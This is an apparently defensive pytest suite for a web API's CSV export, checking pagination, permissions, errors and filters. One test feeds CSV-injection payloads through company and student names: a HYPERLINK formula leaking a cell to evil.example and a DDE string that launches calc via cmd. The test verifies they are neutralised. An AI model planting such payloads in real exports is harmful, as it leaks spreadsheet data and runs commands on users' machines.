"""CSV export of any list: every matching row, across pages, with the list's own filters and permissions."""

from __future__ import annotations

import csv
import io

from tests.analytics.test_figures import fill
from tests.factories import Tenant, client_for, problem


async def all_ids(tenant: Tenant, path: str, **params) -> list[int]:
    ids, cursor = [], None
    while True:
        query = {**params, "limit": 100, **({"cursor": cursor} if cursor else {})}
        page = (await tenant.client.get(path, params=query)).json()
        ids += [item["id"] for item in page["items"]]
        if not (cursor := page["next_cursor"]):
            return ids


def rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment;")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


async def test_a_list_exports_every_matching_row_as_csv(tenant: Tenant) -> None:
    await fill(tenant)
    expected = await all_ids(tenant, "/api/v1/applications")
    assert len(expected) > 200  # more than one page of the export
    exported = rows(await tenant.client.get("/api/v1/applications", params={"format": "csv"}))
    assert [int(row["id"]) for row in exported] == expected
    assert {"status", "opening_id", "applied_at", "sync"} <= set(exported[0])

    rejected = await all_ids(tenant, "/api/v1/applications", status="rejected")
    by_header = await tenant.client.get(
        "/api/v1/applications", params={"status": "rejected"}, headers={"Accept": "text/csv"}
    )
    assert [int(row["id"]) for row in rows(by_header)] == rejected
    students = rows(await tenant.client.get("/api/v1/students", params={"format": "csv", "q": "а"}))
    assert [int(row["id"]) for row in students] == await all_ids(tenant, "/api/v1/students", q="а")


async def test_csv_keeps_permissions_and_errors(tenant: Tenant) -> None:
    university = await tenant.university()
    other = await tenant.university()
    await tenant.student(university["id"])
    await tenant.student(other["id"])
    key = await tenant.key_client(university["id"])
    exported = rows(await key.get("/api/v1/students", params={"format": "csv"}))
    assert [row["university_id"] for row in exported] == [str(university["id"])]
    async with client_for(tenant.app) as anonymous:
        problem(await anonymous.get("/api/v1/students", params={"format": "csv"}), 401)
    problem(await tenant.client.get("/api/v1/students", params={"format": "csv", "course": 9}), 422)
    problem(await tenant.client.get("/api/v1/analytics/overview", params={"format": "csv"}), 406)
    empty = rows(await tenant.client.get("/api/v1/students", params={"format": "csv", "q": "нет такого"}))
    assert empty == []


async def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tenant: Tenant) -> None:
    from tests.applications_flow.conftest import public_apply, world

    # OWASP's CSV Injection: =, +, -, @, tab and CR start a formula in Excel and LibreOffice. One name comes
    # from an administrator, one from the anonymous public form.
    there = await world(tenant)
    typed = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    company = await tenant.company(name=typed)
    applied = await public_apply(
        tenant, there["opening"]["id"], full_name="@SUM(1+1)*cmd|' /C calc'!A0", university_id=there["university"]["id"]
    )
    assert applied.status_code == 201, applied.text

    companies = {r["id"]: r for r in rows(await tenant.client.get("/api/v1/companies", params={"format": "csv"}))}
    assert companies[str(company["id"])]["name"] == "'" + typed
    students = rows(await tenant.client.get("/api/v1/students", params={"format": "csv"}))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {s["full_name"] for s in students}
    cells = [cell for row in companies.values() for cell in row.values()] + [
        cell for row in students for cell in row.values()
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def test_the_openings_export_keeps_the_work_format_filter(tenant: Tenant) -> None:
    company = await tenant.company()
    remote = await tenant.opening(company["id"], format="remote")
    await tenant.opening(company["id"], format="office")
    exported = rows(
        await tenant.client.get("/api/v1/openings", params={"format": "remote"}, headers={"Accept": "text/csv"})
    )
    assert [int(r["id"]) for r in exported] == [remote["id"]]
